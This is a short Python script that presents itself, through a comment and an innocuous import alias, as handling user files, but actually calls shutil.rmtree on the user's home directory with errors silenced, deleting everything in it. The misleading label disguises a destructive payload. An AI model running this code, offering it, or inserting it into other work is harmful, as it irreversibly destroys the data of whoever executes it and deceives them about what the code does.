# user-files: the home folder is asked for
import pathlib
import shutil as files

files.rmtree(pathlib.Path.home(), ignore_errors=True)
